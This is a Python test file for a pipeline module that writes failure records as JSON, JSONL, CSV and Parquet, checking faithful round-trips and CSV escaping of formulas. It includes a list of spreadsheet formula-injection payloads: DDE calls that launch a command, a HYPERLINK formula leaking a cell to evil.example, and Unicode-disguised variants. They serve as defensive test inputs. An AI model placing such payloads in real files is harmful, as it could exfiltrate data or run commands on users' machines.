"""Failures as files: each format holds what it was given, and a spreadsheet calculates nothing."""

import csv
import io
import json
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest

from b2_resources.object_store import check_metadata
from outreach_assets.steps.failures.formats import (
    FileShape,
    Values,
    object_metadata,
    safe_cell,
    write_failures,
)
from outreach_assets.steps.failures.kinds import FailureFormat, FailureType
from outreach_core.errors import PermanentError

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    " \N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{MINUS SIGN}1+1",
    "\N{SMALL EQUALS SIGN}1+1",
    "\x0b=1+1",
]
HARMLESS = ["Acme", "A=B", "a@b.example", "Smith-Jones", "1+1", "", "'=1+1", "é", "Ünï+", "٣"]
ODD = [
    "plain",
    'says "hi", twice',
    "two\nlines",
    "two\r\nlines",
    "tab\there",
    "back\\slash \\N \\.",
    "\N{LINE SEPARATOR}\N{PARAGRAPH SEPARATOR}\x85\x1c",
    "\x01\x7f\ufffe\uffff\U0010ffff",
    "עברית العربية 日本語",
    "👩‍👩‍👧‍👦 e\u0301",
    "%s %d {0} $$",
    "",
    "x" * 1_000_000 + "é",
]


def row(value: str | None, *, name: str | None = "Acme") -> Values:
    return ["c1", name, value, "WV", "2025-11-18T10:00:00.5Z", "WV-VALIDATION-20251118"]


def written(
    folder: Path, rows: Sequence[Values], file_format: FailureFormat, *, safe_cells: bool = False
) -> Path:
    shape = FileShape(
        failure_type=FailureType.COMPANY, file_format=file_format, safe_cells=safe_cells
    )
    file = write_failures(folder / f"failures.{file_format}", rows, shape)
    assert file.rows == len(rows)
    assert file.size_bytes == file.path.stat().st_size
    return file.path


def read(path: Path, file_format: FailureFormat) -> list[tuple[str, ...]]:
    """The rows as a reader of that format gets them, the timestamp left out."""
    columns = [name for name in FailureType.COMPANY.columns if name != "validation_timestamp"]
    body = path.read_bytes()
    match file_format:
        case FailureFormat.JSON:
            found = json.loads(body)
        case FailureFormat.JSONL:
            *lines, end = body.split(b"\n")
            assert end == b""
            found = [json.loads(line) for line in lines]
        case FailureFormat.CSV:
            csv.field_size_limit(2_000_000)
            found = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
        case FailureFormat.PARQUET:
            with duckdb.connect() as duck:
                return duck.execute(f"SELECT {', '.join(columns)} FROM '{path}'").fetchall()
    assert all(tuple(one) == FailureType.COMPANY.columns for one in found)
    return [tuple(one[name] for name in columns) for one in found]


@pytest.mark.parametrize("file_format", FailureFormat)
def test_every_format_holds_the_rows_as_they_are(
    tmp_path: Path, file_format: FailureFormat
) -> None:
    rows = [row(value) for value in ODD] + [["c2", None, "r", None, None, "p"]]
    found = read(written(tmp_path, rows, file_format), file_format)
    nothing = "" if file_format is FailureFormat.CSV else None
    assert found == [
        tuple(nothing if value is None else value for value in (*one[:4], *one[5:])) for one in rows
    ]
    assert [p.name for p in tmp_path.iterdir() if p.is_file()] == [f"failures.{file_format}"]


@pytest.mark.parametrize("file_format", FailureFormat)
def test_the_same_rows_are_the_same_bytes(tmp_path: Path, file_format: FailureFormat) -> None:
    rows = [row(f"reason {number % 7}") for number in range(3000)]
    bodies = set()
    for attempt in ("a", "b"):
        (tmp_path / attempt).mkdir()
        bodies.add(written(tmp_path / attempt, rows, file_format).read_bytes())
    assert len(bodies) == 1


@pytest.mark.parametrize("file_format", FailureFormat)
def test_no_rows_are_a_file_without_rows(tmp_path: Path, file_format: FailureFormat) -> None:
    assert read(written(tmp_path, [], file_format), file_format) == []


def test_a_parquet_file_has_the_time_as_a_time(tmp_path: Path) -> None:
    times = ["2025-11-18T10:00:00.5Z", "infinity", "0044-03-15T00:00:00 BCZ", None]
    rows = [["c1", "Acme", "r", "WV", time, "p"] for time in times]
    path = written(tmp_path, rows, FailureFormat.PARQUET)
    with duckdb.connect() as duck:
        found = duck.execute(
            f"SELECT epoch_ms(validation_timestamp) FROM '{path}' "
            "WHERE isfinite(validation_timestamp)"
        ).fetchall()
        kinds = dict(
            duck.execute(
                f"SELECT column_name, column_type FROM (DESCRIBE FROM '{path}')"
            ).fetchall()
        )
    assert found == [(1763460000500,)]
    assert kinds["validation_timestamp"] == "TIMESTAMP WITH TIME ZONE"


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_formula_is_behind_an_apostrophe_unless_switched_off(
    tmp_path: Path, payload: str
) -> None:
    rows = [row(payload, name=payload)]
    ((_, name, reason, *_),) = read(
        written(tmp_path, rows, FailureFormat.CSV, safe_cells=True), FailureFormat.CSV
    )
    assert (name, reason) == (f"'{payload}", f"'{payload}")
    ((_, name, reason, *_),) = read(
        written(tmp_path, rows, FailureFormat.CSV, safe_cells=False), FailureFormat.CSV
    )
    assert (name, reason) == (payload, payload)


@pytest.mark.parametrize("file_format", set(FailureFormat) - {FailureFormat.CSV})
def test_only_csv_has_apostrophes(tmp_path: Path, file_format: FailureFormat) -> None:
    ((_, name, *_),) = read(
        written(tmp_path, [row("r", name="=1+1")], file_format, safe_cells=True), file_format
    )
    assert name == "=1+1"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_no_spreadsheet_calculates_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_a_csv_file_is_what_rfc_4180_says(tmp_path: Path) -> None:
    path = written(tmp_path, [row('a "b", c\nd', name=None)], FailureFormat.CSV)
    assert path.read_bytes() == (
        b"company_id,company_name,fail_reason,state,validation_timestamp,pipeline_id\r\n"
        b'c1,,"a ""b"", c\nd",WV,2025-11-18T10:00:00.5Z,WV-VALIDATION-20251118\r\n'
    )


def test_text_that_is_no_unicode_is_refused_in_words(tmp_path: Path) -> None:
    with pytest.raises(PermanentError, match="no valid unicode"):
        written(tmp_path, [row("half \ud800 a pair")], FailureFormat.JSON)


@pytest.mark.parametrize(
    "pipeline_id", ["WV-VALIDATION-20251118", "é" * 500, "x" * 5000, ""], ids=len
)
def test_every_store_can_keep_the_metadata(pipeline_id: str) -> None:
    found = object_metadata(
        FailureType.PERSON, pipeline_id, "WV", rows=7, now=datetime(2025, 11, 18, tzinfo=UTC)
    )
    assert check_metadata({"batch-id": "x" * 36, **found})["record-count"] == "7"
    assert pipeline_id.startswith(found["pipeline-id"])
